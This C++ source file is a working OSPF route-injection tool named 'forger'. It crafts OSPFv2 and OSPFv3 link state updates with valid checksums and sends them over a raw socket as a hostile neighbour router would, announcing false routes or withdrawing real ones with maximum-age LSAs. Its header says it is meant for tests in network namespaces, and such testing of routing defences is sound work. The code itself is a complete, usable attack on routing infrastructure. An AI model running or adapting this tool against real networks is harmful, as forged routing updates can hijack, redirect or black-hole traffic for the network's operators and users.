// Forges OSPF link state updates, as a site that its operator turned hostile
// could: from the site's own tunnel address and under its own router-id in the
// packet's header, so that the hub takes them from its neighbour; what the LSAs
// within claim is a lie. OSPFv3 where SOURCE is an IPv6 address. For tests in
// namespaces only.
//
//   forger INTERFACE SOURCE HUB ROUTER-ID TYPE ID ORIGINATOR SEQUENCE COUNT[@MS] [WORD...]
//
// TYPE: router, network, summary, external; of OSPFv3 also intra-prefix (summary is its
// inter-area-prefix) and no network. SEQUENCE: the first (hexadecimal); each of COUNT LSAs,
// one every MS (300) milliseconds, is 16 further on. WORDs of a router LSA: link:ROUTER-ID:DATA, stub:NETWORK:MASK;
// of the others: mask:MASK, and "withdrawn" behind it for an LSA at its end. OSPFv3: link=ROUTER-ID; prefix=PREFIX, and of an intra-prefix LSA on=ROUTER-ID
// when its prefixes shall hang on another's LSA.
#include <array>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <utility>
#include <vector>

#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <time.h>

namespace {

using Bytes = std::vector<std::uint8_t>;

void put8(Bytes& out, unsigned value) { out.push_back(static_cast<std::uint8_t>(value)); }
void put16(Bytes& out, unsigned value) {
  put8(out, value >> 8 & 0xff);
  put8(out, value & 0xff);
}
void put32(Bytes& out, std::uint32_t value) {
  put16(out, value >> 16);
  put16(out, value & 0xffff);
}
std::uint32_t address(const std::string& text) {
  in_addr parsed{};
  if (::inet_pton(AF_INET, text.c_str(), &parsed) != 1) {
    std::fprintf(stderr, "not an address: %s\n", text.c_str());
    std::exit(2);
  }
  return ntohl(parsed.s_addr);
}
void set16(Bytes& bytes, std::size_t at, unsigned value) {
  bytes[at] = static_cast<std::uint8_t>(value >> 8);
  bytes[at + 1] = static_cast<std::uint8_t>(value & 0xff);
}

// RFC 905, annex B, over the LSA without its age; the checksum is at 16.
void fletcher(Bytes& lsa) {
  const std::size_t from = 2;
  const int offset = 16 - static_cast<int>(from);
  int c0 = 0;
  int c1 = 0;
  for (std::size_t i = from; i < lsa.size(); ++i) {
    c0 = (c0 + lsa[i]) % 255;
    c1 = (c1 + c0) % 255;
  }
  const int length = static_cast<int>(lsa.size() - from);
  int x = ((length - offset - 1) * c0 - c1) % 255;
  if (x <= 0) x += 255;
  int y = 510 - c0 - x;
  if (y > 255) y -= 255;
  lsa[16] = static_cast<std::uint8_t>(x);
  lsa[17] = static_cast<std::uint8_t>(y);
}

void internet_checksum(Bytes& packet) {
  std::uint32_t sum = 0;
  for (std::size_t i = 0; i + 1 < packet.size(); i += 2)
    if (i < 16 || i >= 24) sum += static_cast<std::uint32_t>(packet[i] << 8 | packet[i + 1]);  // the authentication is left out
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  set16(packet, 12, ~sum & 0xffff);
}

std::vector<std::string> split(const std::string& text) {
  std::vector<std::string> parts{""};
  for (const char c : text) {
    if (c == ':') parts.emplace_back();
    else parts.back() += c;
  }
  return parts;
}

void put_prefix(Bytes& out, const std::string& text, unsigned metric) {
  const auto slash = text.find('/');
  const int length = std::atoi(text.c_str() + slash + 1);
  in6_addr parsed{};
  if (::inet_pton(AF_INET6, text.substr(0, slash).c_str(), &parsed) != 1) std::exit(2);
  put8(out, static_cast<unsigned>(length));
  put8(out, 0);  // options
  put16(out, metric);
  out.insert(out.end(), parsed.s6_addr, parsed.s6_addr + static_cast<std::ptrdiff_t>((length + 31) / 32 * 4));
}

std::string word_of(const std::vector<std::string>& words, const std::string& name) {
  for (const auto& word : words)
    if (word.rfind(name + "=", 0) == 0) return word.substr(name.size() + 1);
  return {};
}

// RFC 5340, A.4.
Bytes lsa6_of(const std::string& type, std::uint32_t id, std::uint32_t originator, std::uint32_t sequence,
              const std::vector<std::string>& words) {
  constexpr unsigned options = 0x13;  // R, E, V6
  Bytes lsa;
  put16(lsa, 1);  // age
  put16(lsa, type == "router" ? 0x2001 : type == "summary" ? 0x2003 : type == "external" ? 0x4005 : 0x2009);
  put32(lsa, id);
  put32(lsa, originator);
  put32(lsa, sequence);
  put32(lsa, 0);  // checksum, length
  if (type == "router") {
    put32(lsa, options);
    for (const auto& word : words) {
      put16(lsa, 0x0100);  // point-to-point
      put16(lsa, 1);       // metric
      put32(lsa, 5);       // interfaces
      put32(lsa, 5);
      put32(lsa, address(word.substr(word.find('=') + 1)));
    }
  } else if (type == "intra-prefix") {
    const auto on = word_of(words, "on");
    put16(lsa, 1);
    put16(lsa, 0x2001);
    put32(lsa, 0);
    put32(lsa, on.empty() ? originator : address(on));
    put_prefix(lsa, word_of(words, "prefix"), 1);
  } else {
    put32(lsa, 1);  // metric, of type 1
    put_prefix(lsa, word_of(words, "prefix"), 0);
  }
  set16(lsa, 18, static_cast<unsigned>(lsa.size()));
  fletcher(lsa);
  return lsa;
}

Bytes lsa_of(const std::string& type, std::uint32_t id, std::uint32_t originator, std::uint32_t sequence,
             const std::vector<std::string>& words) {
  constexpr unsigned max_age = 3600;
  Bytes lsa;
  put16(lsa, !words.empty() && words.back() == "withdrawn" ? max_age : 1);
  put8(lsa, 0x02);  // options: E
  put8(lsa, type == "router" ? 1 : type == "network" ? 2 : type == "summary" ? 3 : 5);
  put32(lsa, id);
  put32(lsa, originator);
  put32(lsa, sequence);
  put16(lsa, 0);  // checksum
  put16(lsa, 0);  // length
  if (type == "router") {
    put16(lsa, 0);
    put16(lsa, static_cast<unsigned>(words.size()));
    for (const auto& word : words) {
      const auto parts = split(word);
      put32(lsa, address(parts[1]));
      put32(lsa, address(parts[2]));
      put8(lsa, parts[0] == "link" ? 1 : 3);
      put8(lsa, 0);
      put16(lsa, 1);  // metric
    }
  } else if (type == "network") {
    put32(lsa, address(split(words.at(0))[1]));
    put32(lsa, originator);  // attached
  } else {
    put32(lsa, address(split(words.at(0))[1]));
    put32(lsa, 1);  // metric, of type 1
    if (type == "external") {
      put32(lsa, 0);  // forwarding address
      put32(lsa, 0);  // tag
    }
  }
  set16(lsa, 18, static_cast<unsigned>(lsa.size()));
  fletcher(lsa);
  return lsa;
}

Bytes update_of(std::uint32_t router_id, const Bytes& lsa) {
  Bytes packet;
  put8(packet, 2);
  put8(packet, 4);
  put16(packet, static_cast<unsigned>(24 + 4 + lsa.size()));
  put32(packet, router_id);
  put32(packet, 0);  // area
  put16(packet, 0);  // checksum
  put16(packet, 0);  // no authentication
  put32(packet, 0);
  put32(packet, 0);
  put32(packet, 1);  // one LSA
  packet.insert(packet.end(), lsa.begin(), lsa.end());
  internet_checksum(packet);
  return packet;
}

// The kernel adds the checksum.
Bytes update6_of(std::uint32_t router_id, const Bytes& lsa) {
  Bytes packet;
  put16(packet, 0x0304);
  put16(packet, static_cast<unsigned>(16 + 4 + lsa.size()));
  put32(packet, router_id);
  put32(packet, 0);  // area
  put32(packet, 0);  // checksum, instance
  put32(packet, 1);  // one LSA
  packet.insert(packet.end(), lsa.begin(), lsa.end());
  return packet;
}

// A raw socket that sends from `source` to `hub` over an interface; negative: errno says why not.
int open_to(const std::string& interface, const std::string& source, const std::string& hub) {
  sockaddr_storage from{};
  sockaddr_storage to{};
  const bool v6 = source.find(':') != std::string::npos;
  for (const auto& [text, into] : {std::pair{source, &from}, std::pair{hub, &to}}) {
    into->ss_family = v6 ? AF_INET6 : AF_INET;
    auto* v4_address = &reinterpret_cast<sockaddr_in*>(into)->sin_addr;
    auto* v6_address = &reinterpret_cast<sockaddr_in6*>(into)->sin6_addr;
    if (::inet_pton(into->ss_family, text.c_str(), v6 ? static_cast<void*>(v6_address) : static_cast<void*>(v4_address)) != 1) return -1;
    if (v6) reinterpret_cast<sockaddr_in6*>(into)->sin6_scope_id = ::if_nametoindex(interface.c_str());
  }
  const socklen_t size = v6 ? sizeof(sockaddr_in6) : sizeof(sockaddr_in);
  const int fd = ::socket(from.ss_family, SOCK_RAW, 89);
  const int ttl = 1;
  const int checksum_at = 12;
  if (fd < 0 || ::setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, interface.c_str(), static_cast<socklen_t>(interface.size())) != 0 ||
      (v6 ? ::setsockopt(fd, IPPROTO_IPV6, IPV6_CHECKSUM, &checksum_at, sizeof checksum_at)
          : ::setsockopt(fd, IPPROTO_IP, IP_TTL, &ttl, sizeof ttl)) != 0 ||
      ::bind(fd, reinterpret_cast<sockaddr*>(&from), size) != 0 || ::connect(fd, reinterpret_cast<sockaddr*>(&to), size) != 0)
    return -1;
  return fd;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 10) {
    std::fprintf(stderr, "usage: forger INTERFACE SOURCE HUB ROUTER-ID TYPE ID ORIGINATOR SEQUENCE COUNT[@MS] [WORD...]\n");
    return 2;
  }
  const std::vector<std::string> args(argv + 1, argv + argc);
  const std::vector<std::string> words(args.begin() + 9, args.end());
  const bool v6 = args[1].find(':') != std::string::npos;
  const int fd = open_to(args[0], args[1], args[2]);
  if (fd < 0) {
    std::perror("forger");
    return 1;
  }
  auto sequence = static_cast<std::uint32_t>(std::strtoul(args[7].c_str(), nullptr, 16));
  const auto at = args[8].find('@');
  const long pause_ms = at == std::string::npos ? 300 : std::atol(args[8].c_str() + at + 1);
  for (int i = 0; i < std::atoi(args[8].c_str()); ++i) {
    const auto lsa = (v6 ? lsa6_of : lsa_of)(args[4], address(args[5]), address(args[6]), sequence, words);
    const auto packet = (v6 ? update6_of : update_of)(address(args[3]), lsa);
    ::send(fd, packet.data(), packet.size(), 0);
    sequence += 16;
    timespec pause{pause_ms / 1000, pause_ms % 1000 * 1'000'000};
    ::nanosleep(&pause, nullptr);
  }
  return 0;
}
